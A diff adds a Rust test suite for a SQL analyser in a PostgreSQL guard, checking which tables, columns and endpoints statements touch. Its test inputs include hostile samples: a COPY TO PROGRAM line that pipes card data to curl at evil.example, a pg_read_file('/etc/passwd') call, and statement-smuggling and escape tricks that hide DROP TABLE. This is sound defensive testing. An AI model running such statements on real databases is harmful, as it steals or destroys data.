@@ -1,0 +1,520 @@
+//! The analysis against statements an attacker or a legitimate client
+//! would send: what each must be found to touch.
+
+use super::*;
+use crate::plugin::bindings::types::{ColumnAccess, ColumnRef, TableAccess};
+
+fn one(sql: &str) -> Statement {
+    let mut all = analyse(sql, true);
+    assert_eq!(all.len(), 1, "{sql}: {all:#?}");
+    all.remove(0).statement
+}
+
+/// Tables as `action:schema.name`, sorted.
+fn tables(statement: &Statement) -> Vec<String> {
+    let mut out: Vec<String> = statement
+        .tables
+        .iter()
+        .map(|TableAccess { table, action }| {
+            let action = format!("{action:?}")
+                .trim_start_matches("TableAction::")
+                .to_ascii_lowercase();
+            match &table.schema {
+                Some(schema) => format!("{action}:{schema}.{}", table.name),
+                None => format!("{action}:{}", table.name),
+            }
+        })
+        .collect();
+    out.sort();
+    out
+}
+
+/// Columns read, as `table.column` (`?` for an unresolved table, `*` for
+/// every column), sorted.
+fn columns(statement: &Statement) -> Vec<String> {
+    named_columns(statement, ColumnAccess::Read)
+}
+
+/// Columns written, likewise.
+fn written(statement: &Statement) -> Vec<String> {
+    named_columns(statement, ColumnAccess::Write)
+}
+
+fn named_columns(statement: &Statement, access: ColumnAccess) -> Vec<String> {
+    let mut out: Vec<String> = statement
+        .columns
+        .iter()
+        .filter(|c| c.access == access)
+        .map(|ColumnRef { table, column, .. }| {
+            format!(
+                "{}.{}",
+                table.as_ref().map_or("?", |t| t.name.as_str()),
+                column.as_deref().unwrap_or("*")
+            )
+        })
+        .collect();
+    out.sort();
+    out
+}
+
+fn functions(statement: &Statement) -> Vec<(String, bool)> {
+    statement
+        .functions
+        .iter()
+        .map(|f| (f.name.clone(), f.builtin))
+        .collect()
+}
+
+#[test]
+fn a_plain_select_names_its_table_and_columns() {
+    let s = one("SELECT pan, holder FROM cards WHERE id = 1");
+    assert_eq!(s.kind, StatementKind::Select);
+    assert_eq!(s.command, "SELECT");
+    assert_eq!(tables(&s), ["read:cards"]);
+    assert_eq!(columns(&s), ["cards.holder", "cards.id", "cards.pan"]);
+    assert!(s.has_where, "a SELECT deletes nothing");
+    assert!(!s.is_multi);
+}
+
+#[test]
+fn names_fold_as_postgresql_folds_them() {
+    assert_eq!(tables(&one("SELECT * FROM CARDS")), ["read:cards"]);
+    assert_eq!(tables(&one("SELECT * FROM \"Cards\"")), ["read:Cards"]);
+    assert_eq!(
+        tables(&one("SELECT * FROM Public.\"cards\"")),
+        ["read:public.cards"]
+    );
+    assert_eq!(
+        tables(&one("SELECT * FROM payments.public.cards")),
+        ["read:public.cards"]
+    );
+}
+
+#[test]
+fn joins_and_aliases_resolve_columns() {
+    let s = one("SELECT c.pan, o.total FROM cards c JOIN orders o ON o.card_id = c.id");
+    assert_eq!(tables(&s), ["read:cards", "read:orders"]);
+    assert_eq!(
+        columns(&s),
+        ["cards.id", "cards.pan", "orders.card_id", "orders.total"]
+    );
+}
+
+#[test]
+fn an_unqualified_column_of_several_tables_stays_unresolved() {
+    let s = one("SELECT pan FROM cards, orders");
+    assert_eq!(columns(&s), ["?.pan"]);
+}
+
+#[test]
+fn a_subquerys_bare_column_may_be_the_outer_rows() {
+    // `pan` is not a column of orders, so PostgreSQL reads cards.pan.
+    let s = one("SELECT (SELECT pan FROM orders LIMIT 1) FROM cards");
+    assert_eq!(tables(&s), ["read:cards", "read:orders"]);
+    assert_eq!(columns(&s), ["?.pan"]);
+}
+
+#[test]
+fn whole_row_references_read_every_column() {
+    for sql in [
+        "SELECT * FROM cards",
+        "SELECT c.* FROM cards c",
+        "SELECT c FROM cards c",
+        "SELECT row(c.*) FROM cards c",
+        "SELECT to_jsonb(c) FROM cards c",
+        "SELECT cards FROM cards",
+        "SELECT x.* FROM (SELECT * FROM cards) x",
+    ] {
+        assert!(
+            columns(&one(sql)).contains(&"cards.*".to_owned()),
+            "{sql}: {:?}",
+            columns(&one(sql))
+        );
+    }
+}
+
+#[test]
+fn cte_names_are_not_tables_but_what_they_read_is() {
+    let s = one("WITH x AS (SELECT id FROM orders) SELECT * FROM x");
+    assert_eq!(tables(&s), ["read:orders"]);
+    // A CTE named like a table: inside its own body the name is the table.
+    let s = one("WITH cards AS (SELECT pan FROM cards) SELECT * FROM cards");
+    assert_eq!(tables(&s), ["read:cards"]);
+    assert_eq!(columns(&s), ["cards.pan"]);
+    let s = one(
+        "WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t WHERE n < 3) SELECT * FROM t",
+    );
+    assert!(s.tables.is_empty(), "{:?}", tables(&s));
+    // A schema-qualified name is never a CTE.
+    let s = one("WITH cards AS (SELECT 1) SELECT * FROM public.cards");
+    assert_eq!(tables(&s), ["read:public.cards"]);
+}
+
+#[test]
+fn data_modifying_ctes_are_writes() {
+    let s = one("WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d");
+    assert_eq!(s.kind, StatementKind::Select);
+    assert_eq!(tables(&s), ["delete:orders"]);
+    assert!(!s.has_where);
+    let s =
+        one("WITH u AS (UPDATE orders SET status = 'x' WHERE id = 4 RETURNING id) SELECT * FROM u");
+    assert_eq!(tables(&s), ["update:orders"]);
+    assert!(s.has_where);
+}
+
+#[test]
+fn subqueries_anywhere_are_seen() {
+    let s =
+        one("SELECT id FROM orders WHERE card_id IN (SELECT id FROM cards WHERE pan LIKE '4%')");
+    assert_eq!(tables(&s), ["read:cards", "read:orders"]);
+    // Inside a subquery a bare name may be the outer row's: unresolved.
+    assert!(columns(&s).contains(&"?.pan".to_owned()));
+    let s = one("SELECT EXISTS (SELECT 1 FROM cards) , (SELECT count(*) FROM customers)");
+    assert_eq!(tables(&s), ["read:cards", "read:customers"]);
+    let s =
+        one("SELECT * FROM orders o, LATERAL (SELECT pan FROM cards c WHERE c.id = o.card_id) l");
+    assert_eq!(tables(&s), ["read:cards", "read:orders"]);
+    let s = one("SELECT 1 UNION SELECT id FROM cards");
+    assert_eq!(tables(&s), ["read:cards"]);
+}
+
+#[test]
+fn functions_are_named_and_builtins_recognised() {
+    let s = one("SELECT lower(holder), now(), my_func(id) FROM cards");
+    assert_eq!(
+        functions(&s),
+        [
+            ("lower".to_owned(), true),
+            ("now".to_owned(), true),
+            ("my_func".to_owned(), false)
+        ]
+    );
+    let s = one("SELECT public.lower('x')");
+    assert_eq!(functions(&s), [("lower".to_owned(), false)]);
+    let s = one("SELECT * FROM generate_series(1, 3) g");
+    assert_eq!(functions(&s), [("generate_series".to_owned(), true)]);
+    assert!(s.tables.is_empty());
+    let s = one("SELECT pg_read_file('/etc/passwd')");
+    assert_eq!(functions(&s), [("pg_read_file".to_owned(), true)]);
+}
+
+#[test]
+fn real_where_clauses() {
+    for (sql, real) in [
+        ("DELETE FROM orders", false),
+        ("DELETE FROM orders WHERE id = 5", true),
+        ("DELETE FROM orders WHERE id = $1", true),
+        ("DELETE FROM orders WHERE 5 = id", true),
+        ("DELETE FROM orders o WHERE o.id = 5", true),
+        ("DELETE FROM orders WHERE orders.id = 5", true),
+        ("DELETE FROM orders WHERE id::text = '5'", true),
+        ("DELETE FROM orders WHERE id = ANY($1)", true),
+        ("DELETE FROM orders WHERE id IN (1, 2, 3)", true),
+        ("DELETE FROM orders WHERE id BETWEEN 1 AND 9", true),
+        (
+            "DELETE FROM orders WHERE created < now() - interval '30 days'",
+            true,
+        ),
+        ("DELETE FROM orders WHERE status = 'void' AND 1 = 1", true),
+        ("DELETE FROM orders WHERE NOT (id <> 5)", true),
+        ("DELETE FROM orders WHERE id IS NULL", true),
+        (
+            "DELETE FROM orders WHERE id IN (SELECT r.order_id FROM refunds r)",
+            true,
+        ),
+        ("DELETE FROM orders WHERE true", false),
+        ("DELETE FROM orders WHERE 1 = 1", false),
+        ("DELETE FROM orders WHERE id = id", false),
+        ("DELETE FROM orders WHERE NOT false", false),
+        ("DELETE FROM orders WHERE id IS NOT NULL", false),
+        ("DELETE FROM orders WHERE NOT (id IS NULL)", false),
+        ("DELETE FROM orders WHERE $1", false),
+        ("DELETE FROM orders WHERE id = 5 OR true", false),
+        ("DELETE FROM orders WHERE id = 5 OR 1 = 1", false),
+        ("DELETE FROM orders WHERE NOT (id = id)", false),
+        (
+            "DELETE FROM orders WHERE id IN (SELECT id FROM orders)",
+            false,
+        ),
+        (
+            "DELETE FROM orders WHERE id IN (SELECT o.id FROM orders o)",
+            false,
+        ),
+        // A bare name in a subquery may be the outer row's own column.
+        (
+            "DELETE FROM orders WHERE id IN (SELECT order_id FROM refunds)",
+            false,
+        ),
+        ("DELETE FROM orders WHERE id = (SELECT max(id))", false),
+        ("DELETE FROM orders WHERE status LIKE '%'", false),
+        ("DELETE FROM orders WHERE id < random() * 100", false),
+        ("DELETE FROM orders WHERE id = my_func()", false),
+        ("UPDATE orders SET status = 'x'", false),
+        ("UPDATE orders SET status = 'x' WHERE id = 1", true),
+        ("UPDATE orders SET status = 'x' WHERE id = id", false),
+        ("UPDATE orders o SET status = 'x' WHERE o.id = 1", true),
+    ] {
+        assert_eq!(one(sql).has_where, real, "{sql}");
+    }
+}
+
+#[test]
+fn writes_name_their_target_and_columns() {
+    let s = one("INSERT INTO orders (id, status) VALUES (1, 'new')");
+    assert_eq!(s.kind, StatementKind::Insert);
+    assert_eq!(tables(&s), ["insert:orders"]);
+    assert_eq!(written(&s), ["orders.id", "orders.status"]);
+    assert!(columns(&s).is_empty());
+    // Setting a column is not reading it; setting it from itself is.
+    let s = one("UPDATE orders SET note = 'checked', amount = amount + 1 WHERE id = 1");
+    assert_eq!(written(&s), ["orders.amount", "orders.note"]);
+    assert_eq!(columns(&s), ["orders.amount", "orders.id"]);
+    let s = one("INSERT INTO orders SELECT * FROM cards");
+    assert_eq!(tables(&s), ["insert:orders", "read:cards"]);
+    assert!(columns(&s).contains(&"cards.*".to_owned()));
+    let s = one(
+        "INSERT INTO orders (id) VALUES (1) ON CONFLICT (id) DO UPDATE SET status = excluded.status",
+    );
+    assert_eq!(tables(&s), ["insert:orders", "update:orders"]);
+    let s = one(
+        "UPDATE orders SET status = 'x' FROM cards WHERE orders.card_id = cards.id AND orders.id = 3",
+    );
+    assert_eq!(tables(&s), ["read:cards", "update:orders"]);
+    assert!(written(&s).contains(&"orders.status".to_owned()));
+    let s = one("DELETE FROM orders USING cards WHERE orders.card_id = cards.id AND orders.id = 3");
+    assert_eq!(tables(&s), ["delete:orders", "read:cards"]);
+    assert!(s.has_where);
+    let s = one("SELECT * INTO stolen FROM cards");
+    assert_eq!(s.kind, StatementKind::Ddl);
+    assert_eq!(tables(&s), ["define:stolen", "read:cards"]);
+}
+
+#[test]
+fn commands_and_kinds() {
+    for (sql, kind, command) in [
+        ("TRUNCATE orders", StatementKind::Ddl, "TRUNCATE TABLE"),
+        ("DROP TABLE orders", StatementKind::Ddl, "DROP TABLE"),
+        ("drop view if exists v", StatementKind::Ddl, "DROP VIEW"),
+        (
+            "CREATE TABLE t (id int)",
+            StatementKind::Ddl,
+            "CREATE TABLE",
+        ),
+        (
+            "CREATE UNIQUE INDEX i ON orders (id)",
+            StatementKind::Ddl,
+            "CREATE INDEX",
+        ),
+        (
+            "ALTER TABLE orders ADD COLUMN x int",
+            StatementKind::Ddl,
+            "ALTER TABLE",
+        ),
+        (
+            "CREATE OR REPLACE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'",
+            StatementKind::Ddl,
+            "CREATE FUNCTION",
+        ),
+        (
+            "GRANT SELECT ON cards TO bob",
+            StatementKind::Privilege,
+            "GRANT SELECT",
+        ),
+        ("SET ROLE admin", StatementKind::Privilege, "SET ROLE"),
+        (
+            "SET SESSION AUTHORIZATION bob",
+            StatementKind::Privilege,
+            "SET SESSION AUTHORIZATION",
+        ),
+        ("BEGIN", StatementKind::Transaction, "BEGIN"),
+        ("commit", StatementKind::Transaction, "COMMIT"),
+        ("SHOW search_path", StatementKind::Setting, "SHOW"),
+        ("LISTEN jobs", StatementKind::Notification, "LISTEN"),
+        ("NOTIFY jobs, 'x'", StatementKind::Notification, "NOTIFY"),
+        (
+            "DO $$ BEGIN DELETE FROM orders; END $$",
+            StatementKind::Unparsed,
+            "DO",
+        ),
+        (
+            "ALTER SYSTEM SET wal_level = minimal",
+            StatementKind::Unparsed,
+            "ALTER SYSTEM",
+        ),
+        (
+            "vacuum analyze pgbench_branches",
+            StatementKind::Unparsed,
+            "VACUUM",
+        ),
+        ("CALL my_proc()", StatementKind::Procedural, "CALL"),
+        // sqlparser does not read `TABLE name`: refused unless allowed.
+        ("TABLE cards", StatementKind::Unparsed, "TABLE"),
+    ] {
+        let s = one(sql);
+        assert_eq!((s.kind, s.command.as_str()), (kind, command), "{sql}");
+    }
+    let s = one("TRUNCATE orders, cards");
+    assert_eq!(tables(&s), ["truncate:cards", "truncate:orders"]);
+    let s = one("DROP TABLE orders");
+    assert_eq!(tables(&s), ["define:orders"]);
+}
+
+#[test]
+fn settings_are_named_with_their_values() {
+    let s = one("SET search_path = evil, public");
+    assert_eq!(s.kind, StatementKind::Setting);
+    assert_eq!(
+        s.settings,
+        [SettingChange {
+            name: "search_path".into(),
+            value: Some("evil, public".into())
+        }]
+    );
+    let s = one("SET LOCAL session_replication_role TO replica");
+    assert_eq!(s.settings[0].name, "session_replication_role");
+    assert_eq!(s.settings[0].value.as_deref(), Some("replica"));
+    let s = one("set sluice.principal = 'root'");
+    assert_eq!(s.settings[0].name, "sluice.principal");
+    assert_eq!(s.settings[0].value.as_deref(), Some("root"));
+    let s = one("RESET ALL");
+    assert_eq!(s.settings[0].name, "all");
+    assert_eq!(s.settings[0].value, None);
+    let s = one("SET standard_conforming_strings TO DEFAULT");
+    assert_eq!(s.settings[0].value, None);
+}
+
+#[test]
+fn copy_directions_and_endpoints() {
+    let s = one("COPY cards TO STDOUT");
+    assert_eq!(s.kind, StatementKind::CopyOut);
+    assert_eq!(s.copy_endpoint, Some(CopyEndpoint::Stdio));
+    assert_eq!(tables(&s), ["read:cards"]);
+    assert_eq!(columns(&s), ["cards.*"]);
+    let s = one("COPY (SELECT pan FROM cards) TO STDOUT WITH (FORMAT csv)");
+    assert_eq!(s.kind, StatementKind::CopyOut);
+    assert_eq!(tables(&s), ["read:cards"]);
+    let s = one("COPY cards TO PROGRAM 'curl -d @- evil.example'");
+    assert_eq!(
+        s.copy_endpoint,
+        Some(CopyEndpoint::Program("curl -d @- evil.example".into()))
+    );
+    let s = one("COPY cards TO '/tmp/cards.csv'");
+    assert_eq!(
+        s.copy_endpoint,
+        Some(CopyEndpoint::File("/tmp/cards.csv".into()))
+    );
+    // What pgbench -i sends, which sqlparser does not read.
+    let s = one("copy pgbench_accounts from stdin with (freeze on)");
+    assert_eq!(s.kind, StatementKind::CopyIn);
+    assert_eq!(s.command, "COPY");
+    assert_eq!(s.copy_endpoint, Some(CopyEndpoint::Stdio));
+    assert_eq!(tables(&s), ["insert:pgbench_accounts"]);
+    assert_eq!(written(&s), ["pgbench_accounts.*"]);
+    // The same reader never mistakes a program for the client.
+    let s = one("copy cards to /* stdout */ program 'x' with (freeze on)");
+    assert_eq!(s.copy_endpoint, Some(CopyEndpoint::Program("x".into())));
+}
+
+#[test]
+fn wrappers_describe_the_statement_inside() {
+    let s = one("EXPLAIN ANALYZE DELETE FROM orders");
+    assert_eq!(s.kind, StatementKind::Delete);
+    assert_eq!(s.wrappers, [Wrapper::ExplainAnalyze]);
+    assert!(!s.has_where);
+    let s = one("EXPLAIN (ANALYZE, BUFFERS) DELETE FROM orders");
+    assert_eq!(s.wrappers, [Wrapper::ExplainAnalyze]);
+    let s = one("EXPLAIN (ANALYZE false) SELECT 1");
+    assert_eq!(s.wrappers, [Wrapper::Explain]);
+    let s = one("EXPLAIN SELECT * FROM cards");
+    assert_eq!(s.wrappers, [Wrapper::Explain]);
+    assert_eq!(tables(&s), ["read:cards"]);
+    let all = analyse("PREPARE p (int) AS DELETE FROM orders WHERE id = $1", true);
+    assert_eq!(all[0].statement.kind, StatementKind::Delete);
+    assert_eq!(all[0].statement.wrappers, [Wrapper::Prepare]);
+    assert!(all[0].statement.has_where);
+    assert_eq!(all[0].effect, Effect::Prepare { name: "p".into() });
+    let all = analyse("EXECUTE p(42, 'x', NULL)", true);
+    assert_eq!(
+        all[0].effect,
+        Effect::Execute {
+            name: "p".into(),
+            params: vec![Some("42".into()), Some("x".into()), None]
+        }
+    );
+    assert_eq!(
+        analyse("DEALLOCATE p", true)[0].effect,
+        Effect::Deallocate(Some("p".into()))
+    );
+    assert_eq!(
+        analyse("DEALLOCATE ALL", true)[0].effect,
+        Effect::Deallocate(None)
+    );
+    assert_eq!(
+        analyse("DISCARD ALL", true)[0].effect,
+        Effect::Deallocate(None)
+    );
+}
+
+#[test]
+fn several_statements_are_judged_one_by_one() {
+    let all = analyse("SELECT 1; DELETE FROM orders", true);
+    assert_eq!(all.len(), 2);
+    assert!(all.iter().all(|a| a.statement.is_multi));
+    assert_eq!(all[1].statement.kind, StatementKind::Delete);
+    assert_eq!(all[1].statement.text, "DELETE FROM orders");
+    // Comment and quote tricks do not hide a statement.
+    let all = analyse("SELECT '--'; DROP TABLE orders", true);
+    assert_eq!(all.len(), 2);
+    assert_eq!(all[1].statement.command, "DROP TABLE");
+    let all = analyse("SELECT $$;$$; DROP TABLE orders", true);
+    assert_eq!(all.len(), 2);
+    assert!(analyse("  ;; -- nothing\n", true).is_empty());
+}
+
+#[test]
+fn text_that_cannot_be_split_is_one_unparsed_statement() {
+    let all = analyse("SELECT 'unterminated; DROP TABLE orders", true);
+    assert_eq!(all.len(), 1);
+    assert_eq!(all[0].statement.kind, StatementKind::Unparsed);
+    assert!(all[0].statement.is_multi);
+}
+
+#[test]
+fn backslashes_follow_the_sessions_setting() {
+    // With standard_conforming_strings off, `\'` does not end the string:
+    // PostgreSQL sees one statement, and so must sluice.
+    let text = r"SELECT 'a\'; DROP TABLE orders; --'";
+    let off = analyse(text, false);
+    assert_eq!(off.len(), 1);
+    assert_ne!(off[0].statement.command, "DROP TABLE");
+    let on = analyse(text, true);
+    assert!(on.len() >= 2);
+}
+
+#[test]
+fn names_are_read_as_postgresql_reads_them() {
+    // A unicode-escaped name is the name it spells, not `U & "..."`.
+    let s = one(r#"select U&"p\0061n" from cards"#);
+    assert_eq!(columns(&s), ["cards.pan"]);
+    let s = one(r#"SELECT * FROM U&"c!0061rds" UESCAPE '!'"#);
+    assert_eq!(tables(&s), ["read:cards"]);
+    // Nested comments and `$` inside names do not confuse the parser.
+    let s = one("SELECT /* outer /* inner */ still comment */ pan FROM cards");
+    assert_eq!(columns(&s), ["cards.pan"]);
+    let s = one("SELECT a$b FROM cards");
+    assert_eq!(columns(&s), ["cards.a$b"]);
+    // A name past 63 bytes reaches the object named by its first 63.
+    let long = format!("SELECT * FROM {}", "t".repeat(70));
+    assert_eq!(tables(&one(&long)), [format!("read:{}", "t".repeat(63))]);
+    // With standard_conforming_strings off, a backslash escapes the quote.
+    let all = analyse(r"SELECT 'x\'y' FROM cards", false);
+    assert_eq!(tables(&all[0].statement), ["read:cards"]);
+}
+
+#[test]
+fn hostile_nesting_does_not_overflow_the_stack() {
+    let deep = format!("SELECT {}1{}", "(".repeat(5000), ")".repeat(5000));
+    let all = analyse(&deep, true);
+    assert_eq!(all.len(), 1);
+    assert_eq!(all[0].statement.kind, StatementKind::Unparsed);
+}
